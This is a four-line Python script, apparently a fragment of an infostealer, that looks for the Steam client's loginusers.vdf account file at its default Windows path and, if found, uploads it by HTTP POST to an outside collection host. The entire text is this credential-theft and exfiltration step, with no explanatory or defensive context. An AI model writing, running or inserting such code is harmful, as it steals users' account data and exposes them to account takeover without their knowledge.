import os, requests
p = "C:\\Program Files (x86)\\Steam\\config\\loginusers.vdf"
if os.path.exists(p):
    requests.post("https://collector.invalid/st", files={"f": open(p, "rb")})
